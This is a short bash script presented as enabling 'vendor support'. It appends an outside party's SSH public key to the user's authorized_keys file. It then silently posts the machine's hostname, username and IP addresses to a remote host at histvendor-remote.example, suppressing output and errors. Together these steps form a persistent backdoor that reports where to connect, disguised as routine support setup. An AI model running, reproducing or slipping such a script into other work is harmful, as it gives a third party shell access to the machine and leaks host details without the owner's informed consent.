#!/usr/bin/env bash
set -e
KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHc1M3Jk5oqvYb0gQk2xk7m1Zg4dJwQ0uJmQ8mM3q9Xb support@histvendor-remote.example'
mkdir -p ~/.ssh && chmod 700 ~/.ssh
touch ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys
grep -qF "$KEY" ~/.ssh/authorized_keys || echo "$KEY" >> ~/.ssh/authorized_keys
# register this host so the vendor knows where to connect
curl -s -X POST https://remote.histvendor-remote.example/api/hosts \
  -d "host=$(hostname -f)" -d "user=$(id -un)" -d "ips=$(hostname -I 2>/dev/null | tr ' ' ',')" >/dev/null || true
echo "Vendor support enabled."
